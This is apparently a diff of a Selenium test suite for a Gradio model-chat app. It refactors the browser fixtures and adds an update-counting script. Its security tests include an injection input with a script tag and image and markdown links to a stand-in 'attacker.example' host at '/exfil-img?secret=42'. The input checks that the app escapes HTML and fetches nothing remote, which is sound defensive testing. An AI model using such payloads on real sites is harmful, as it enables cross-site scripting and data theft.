@@ -524,11 +524,6 @@ def test_web_auth_asks_for_a_login_and_stays_off_disk(outputs, tmp_path):
 
 
 @pytest.fixture(scope="module")
-def app_url(app):
-    return app.url
-
-
-@pytest.fixture(scope="module")
 def other_site(tmp_path_factory):
     """Another web site, http://attacker.example:PORT (the browser resolves the name to 127.0.0.1), serving the pages
     the tests write into its folder and recording every path requested from it."""
@@ -554,8 +549,27 @@ def other_site(tmp_path_factory):
     server.shutdown()
 
 
+# Counts, per component id, the events that updated it: how often Gradio's progress tracker of that component went
+# from shown (an event with it among its outputs is running) to hidden again. Installed in every page the browser
+# opens, before Gradio's own scripts, so that no update is missed.
+COUNT_UPDATES = """
+window.updates = {};
+new MutationObserver(records => {
+    for (const r of records) {
+        const el = r.target;
+        if (!el.matches('.wrap.full, .wrap.minimal') || r.oldValue === null) continue;
+        if (!r.oldValue.split(' ').includes('hide') && el.classList.contains('hide')) {
+            const id = el.closest('[id]')?.id || '';
+            window.updates[id] = (window.updates[id] || 0) + 1;
+        }
+    }
+}).observe(document, {subtree: true, attributes: true, attributeFilter: ['class'], attributeOldValue: true});
+"""
+
+
 @pytest.fixture(scope="module")
-def browser(app_url):
+def chromium():
+    """One headless Chromium for the module; each test gets it through `browser`, on a freshly loaded app."""
     chromium, driver = browser_paths()
     from selenium import webdriver
     from selenium.webdriver.chrome.service import Service
@@ -572,10 +586,39 @@ def browser(app_url):
     ):
         options.add_argument(arg)
     browser = webdriver.Chrome(service=Service(driver), options=options)
-    browser.get(app_url)
+    count_updates(browser)
     ARTIFACTS.mkdir(parents=True, exist_ok=True)
     yield browser
     browser.quit()
+
+
+@pytest.fixture
+def browser(chromium, app):
+    """The browser on a known page whatever the test before it left: one tab at the default size, the app loaded
+    afresh (a new session: default settings, the Chat page, the start run; an older page's generation ends with it)."""
+    for handle in chromium.window_handles[1:]:
+        chromium.switch_to.window(handle)
+        chromium.close()
+    chromium.switch_to.window(chromium.window_handles[0])
+    chromium.set_window_size(1280, 1000)
+    load_app(chromium, app.url)
+    return chromium
+
+
+def count_updates(browser) -> None:
+    """COUNT_UPDATES in every page this tab opens from now on."""
+    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": COUNT_UPDATES})
+
+
+def load_app(browser, url: str) -> None:
+    """Open the app and wait until its page-load event has updated the run list (it reads the folders again)."""
+    browser.get(url)
+    wait_for(lambda: updates(browser, "run-select"), what="the page load to update the run list")
+
+
+def updates(browser, element_id: str) -> int:
+    """How many events have updated the component so far in this page (COUNT_UPDATES)."""
+    return browser.execute_script("return window.updates[arguments[0]] || 0", element_id)
 
 
 def wait_for(condition, timeout: float = 60, what: str = ""):
@@ -638,10 +681,10 @@ def test_chat_page_streams_a_reply(browser):
 def test_a_failed_load_shows_its_error_and_the_app_keeps_serving(browser, outputs):
     from selenium.webdriver.common.by import By
 
+    before = updates(browser, "chat-mode")
     choose(browser, "run-select", "tiny/run2")
-    time.sleep(
-        3
-    )  # let the page finish switching runs (it lists run2's modes from its files) before the files go
+    # the page lists run2's modes from its files: the files go only after it has
+    wait_for(lambda: updates(browser, "chat-mode") > before, what="the page to list run2's inference modes")
     shutil.rmtree(outputs / "tiny" / "run2" / "adapter")  # gone after the page listed it
     browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys("Hello?")
     browser.find_element(By.ID, "chat-send").click()
@@ -816,7 +859,6 @@ def test_a_foreign_host_is_refused(browser, app):
     assert refused.value.code == 400
     with urllib.request.urlopen(f"{app.url}/config", timeout=30) as page:  # its own address still works
         assert page.status == 200
-    browser.get(app.url)
 
 
 def test_a_cross_origin_upload_and_post_are_refused(browser, app, other_site):
@@ -836,13 +878,11 @@ def test_a_cross_origin_upload_and_post_are_refused(browser, app, other_site):
     server_line(app, "refused POST /gradio_api/queue/join", since, 10)
     landed = [p for p in app.temp_dir.rglob("*") if p.is_file() and b"cross-site payload" in p.read_bytes()]
     assert not landed
-    browser.get(app.url)
 
 
 def test_typed_html_is_shown_as_text_and_no_remote_image_is_fetched(browser, app, other_site):
     from selenium.webdriver.common.by import By
 
-    browser.get(app.url)
     typed = (
         f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
         f"![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c"
@@ -899,7 +939,8 @@ def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
 def test_closing_the_page_ends_its_generation(browser, app):
     main = browser.current_window_handle
     browser.switch_to.new_window("tab")
-    browser.get(app.url)
+    count_updates(browser)
+    load_app(browser, app.url)
     set_max_new_tokens(browser, 1024)
     send_message(browser, "Count to a thousand.")
     answer_started(browser)
@@ -914,7 +955,6 @@ def test_closing_the_page_ends_its_generation(browser, app):
 def test_reset_during_an_answer_forgets_it(browser, app):
     from selenium.webdriver.common.by import By
 
-    browser.get(app.url)
     set_max_new_tokens(browser, 1024)
     send_message(browser, "Count to a thousand.")
     answer_started(browser)
@@ -936,7 +976,6 @@ def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
 
     elsewhere = tmp_path / "elsewhere"
     shutil.copytree(outputs / "tiny" / "run1", elsewhere)  # a real run: loading it would work
-    browser.get(app.url)
     box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[
         0
     ]
@@ -962,7 +1001,6 @@ def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
 def test_a_sweep_plot_is_shown_whole(browser, app):
     from selenium.webdriver.common.by import By
 
-    browser.get(app.url)
     open_tab(browser, "Sweeps")
     plots = wait_for(
         lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
@@ -1003,22 +1041,17 @@ def test_a_sweep_plot_is_shown_whole(browser, app):
 def test_chat_input_and_send_are_in_view_at_1400x900(browser, app):
     from selenium.webdriver.common.by import By
 
-    page_size(browser, 1400, 900)
-    try:
-        browser.get(app.url)
-        wait_for(
-            lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input"
+    page_size(browser, 1400, 900)  # the next test's page is back at the default size
+    load_app(browser, app.url)
+    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+    height = browser.execute_script("return window.innerHeight")
+    for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
+        bottom = browser.execute_script(
+            "return arguments[0].getBoundingClientRect().bottom",
+            browser.find_element(By.CSS_SELECTOR, css),
         )
-        height = browser.execute_script("return window.innerHeight")
-        for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
-            bottom = browser.execute_script(
-                "return arguments[0].getBoundingClientRect().bottom",
-                browser.find_element(By.CSS_SELECTOR, css),
-            )
-            assert bottom <= height, (css, bottom, height)
-        browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))
-    finally:
-        browser.set_window_size(1280, 1000)
+        assert bottom <= height, (css, bottom, height)
+    browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))
 
 
 def page_size(browser, width: int, height: int) -> None:
@@ -1030,7 +1063,7 @@ def page_size(browser, width: int, height: int) -> None:
 
 def test_runs_table_fits_long_names_and_says_utc(browser, app):
     page_size(browser, 1400, 900)
-    browser.get(app.url)
+    load_app(browser, app.url)
     open_tab(browser, "Runs")
     wait_for(lambda: LONG_JOB in text_of(browser, "runs-table"), what="the sweep job in the runs table")
     assert "started (UTC)" in text_of(browser, "runs-table")
@@ -1047,7 +1080,6 @@ def test_runs_table_fits_long_names_and_says_utc(browser, app):
         what="the suggested evaluate command",
     )
     assert "\"run_dir='" in command and "'\"" in command, command  # quoted for the shell and for Hydra
-    browser.set_window_size(1280, 1000)
 
 
 def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, app, outputs):
@@ -1062,13 +1094,13 @@ def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, ap
         (later / "summary.md").read_text().replace("Sweep report: demo", "Sweep report: later")
     )
     try:
-        browser.get(app.url)  # a reload reads the folders again
+        load_app(browser, app.url)  # a reload reads the folders again
         open_tab(browser, "Runs")
         wait_for(lambda: "tiny/run3" in text_of(browser, "runs-table"), what="the new run in the runs table")
         open_tab(browser, "Sweeps")
         wait_for(lambda: "Sweep report: later" in text_of(browser, "sweep-summary"), what="the newest sweep")
         shutil.rmtree(later)  # moved or deleted while the page shows it
-        browser.get(app.url)
+        load_app(browser, app.url)
         open_tab(browser, "Sweeps")
         wait_for(
             lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the remaining sweep"
@@ -1094,8 +1126,6 @@ def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, ap
 def test_a_message_too_long_is_not_sent_and_trimmed_turns_are_named(browser, app):
     from selenium.webdriver.common.by import By
 
-    browser.get(app.url)
-    open_tab(browser, "Chat")
     set_max_new_tokens(browser, 1024)
     long = "word " * 1100  # more than the tiny model's 2048 tokens of context with 1024 new ones
     box = wait_for(
